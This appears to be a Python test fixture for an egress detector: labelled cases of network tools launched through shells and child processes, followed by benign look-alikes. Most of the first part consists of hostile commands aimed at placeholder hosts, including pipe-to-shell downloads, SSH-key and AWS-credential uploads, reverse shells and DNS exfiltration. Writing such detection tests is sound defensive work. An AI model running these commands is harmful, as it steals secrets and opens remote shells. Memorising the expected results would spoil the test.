# Held-out evasion set: network tools run through a shell or a child process. Never executed.
import asyncio
import os
import pty
import subprocess

KEY = os.path.expanduser("~/.ssh/id_rsa")


def quoted_tool():
    # expect: egress host=q.evil.example
    os.system('"curl" -s -F "f=@' + KEY + '" https://q.evil.example/u')


def single_quoted_path():
    # expect: egress host=203.0.113.40
    subprocess.run("'/usr/bin/wget' -q -O- http://203.0.113.40/i | sh", shell=True)


def absolute_path_list():
    # expect: egress host=abs.evil.example
    subprocess.call(["/usr/bin/curl", "-d", "@" + KEY, "https://abs.evil.example/k"])


def after_semicolon():
    # expect: egress host=semi.evil.example
    os.system("cd /tmp; curl -sO https://semi.evil.example/x && chmod +x x && ./x")


def after_and():
    # expect: egress host=and.evil.example
    subprocess.Popen("true && wget -q https://and.evil.example/p -O /tmp/p", shell=True)


def in_pipe():
    # expect: egress host=203.0.113.41
    os.popen("tar cz ~/.aws | nc 203.0.113.41 9001")


def command_substitution():
    # expect: egress host=sub.evil.example
    os.system('echo "$(curl -s https://sub.evil.example/cmd)" | sh')


def backticks():
    # expect: egress host=tick.evil.example
    os.system("sh -c `curl -s https://tick.evil.example/b`")


def sh_dash_c_list():
    # expect: egress host=shc.evil.example
    subprocess.check_call(["sh", "-c", "env | curl -s -X POST --data-binary @- https://shc.evil.example/e"])


def bash_dash_c_string():
    # expect: egress host=bashc.evil.example
    os.system("bash -c 'wget -qO- https://bashc.evil.example/s | bash'")


def env_prefix():
    # expect: egress host=envp.evil.example
    os.system("HTTPS_PROXY= env curl -s https://envp.evil.example/p")


def sudo_nohup():
    # expect: egress host=203.0.113.42
    os.system("nohup sudo wget http://203.0.113.42/r -O /usr/local/bin/r &")


def powershell_webclient():
    # expect: egress host=ps.evil.example
    subprocess.Popen(["powershell", "-w", "hidden", "-c", "(New-Object Net.WebClient).DownloadFile('https://ps.evil.example/m.exe','m.exe')"])


def powershell_iwr():
    # expect: egress host=iwr.evil.example
    os.system("powershell -NoP -c \"iwr https://iwr.evil.example/a -OutFile a.exe\"")


def powershell_irm_upload():
    # expect: egress host=irm.evil.example
    subprocess.run('powershell -c "Invoke-RestMethod -Uri https://irm.evil.example/u -Method Post -InFile $env:USERPROFILE\\.aws\\credentials"', shell=True)


def certutil_download():
    # expect: egress host=cu.evil.example
    os.system("certutil -urlcache -split -f https://cu.evil.example/p.exe p.exe")


def bitsadmin_download():
    # expect: egress host=bits.evil.example
    os.system("bitsadmin /transfer j /download /priority high https://bits.evil.example/x.exe C:\\x.exe")


def cmd_c():
    # expect: egress host=cmdc.evil.example
    subprocess.call("cmd /c curl.exe -s https://cmdc.evil.example/w -o w.exe", shell=True)


def scp_out():
    # expect: egress host=backup.evil.example
    subprocess.run(["scp", KEY, "me@backup.evil.example:/loot/"])


def rsync_remote():
    # expect: egress host=rs.evil.example
    os.system("rsync -az ~/.ssh/ loot@rs.evil.example:keys/")


def ssh_remote_command():
    # expect: egress host=203.0.113.43
    subprocess.Popen(["ssh", "-o", "StrictHostKeyChecking=no", "u@203.0.113.43", "cat > k"], stdin=open(KEY))


def git_push_remote():
    # expect: egress host=git.evil.example
    os.system("git push https://git.evil.example/loot.git HEAD:refs/heads/x")


def pip_custom_index():
    # expect: egress host=pypi.evil.example
    subprocess.check_call(["pip", "install", "--index-url", "https://pypi.evil.example/simple", "helper"])


def twine_upload():
    # expect: egress
    os.system("twine upload --repository-url https://up.evil.example/legacy/ dist/*")


def docker_push():
    # expect: egress host=registry.evil.example
    subprocess.run(["docker", "push", "registry.evil.example/loot:latest"])


def aws_s3_copy():
    # expect: egress
    subprocess.run("aws s3 cp ~/.aws/credentials s3://loot-bucket/c", shell=True)


def socat_reverse():
    # expect: egress host=203.0.113.44
    os.system("socat exec:'bash -li',pty,stderr tcp:203.0.113.44:4444")


async def asyncio_shell():
    # expect: egress host=as.evil.example
    await asyncio.create_subprocess_shell("curl -s https://as.evil.example/a | sh")


async def asyncio_exec():
    # expect: egress host=ae.evil.example
    await asyncio.create_subprocess_exec("wget", "-q", "https://ae.evil.example/b")


def pty_spawn():
    # expect: egress host=203.0.113.45
    pty.spawn(["nc", "-e", "/bin/sh", "203.0.113.45", "4445"])


def execvp_tool():
    # expect: egress host=ex.evil.example
    os.execvp("curl", ["curl", "-s", "https://ex.evil.example/e"])


def nslookup_exfil():
    # expect: egress
    os.system("nslookup $(whoami).$(hostname).dns.evil.example")


# ---- look-alikes: the tool's name is only an argument, or the tool sends nothing ----


def benign_echo():
    # expect: none
    os.system("echo curl is not installed")


def benign_grep():
    # expect: none
    subprocess.run(["grep", "wget", "/var/log/install.log"])


def benign_grep_string():
    # expect: none
    os.system("grep -c 'curl' build.log")


def benign_which():
    # expect: none
    subprocess.run("which curl wget", shell=True)


def benign_version():
    # expect: none
    subprocess.run(["curl", "--version"], check=True)


def benign_help():
    # expect: none
    os.system("wget --help > /dev/null")


def benign_man():
    # expect: none
    os.system("man ssh | head")


def benign_apt_cache():
    # expect: none
    subprocess.run(["apt-cache", "policy", "curl"])


def benign_local_rsync():
    # expect: none
    subprocess.run(["rsync", "-a", "build/", "dist/"])


def benign_local_scp():
    # expect: none
    os.system("scp ./a.txt ./b.txt")


def benign_pip_local():
    # expect: none
    subprocess.check_call(["pip", "install", "-e", "."])


def benign_git_status():
    # expect: none
    os.system("git status --porcelain")


def benign_docker_build():
    # expect: none
    subprocess.run(["docker", "build", "-t", "app", "."])


def benign_printf():
    # expect: none
    os.system("printf '%s\\n' 'run: curl https://example.invalid'")


def benign_ssh_keygen():
    # expect: none
    subprocess.run(["ssh-keygen", "-t", "ed25519", "-f", "/tmp/k", "-N", ""])
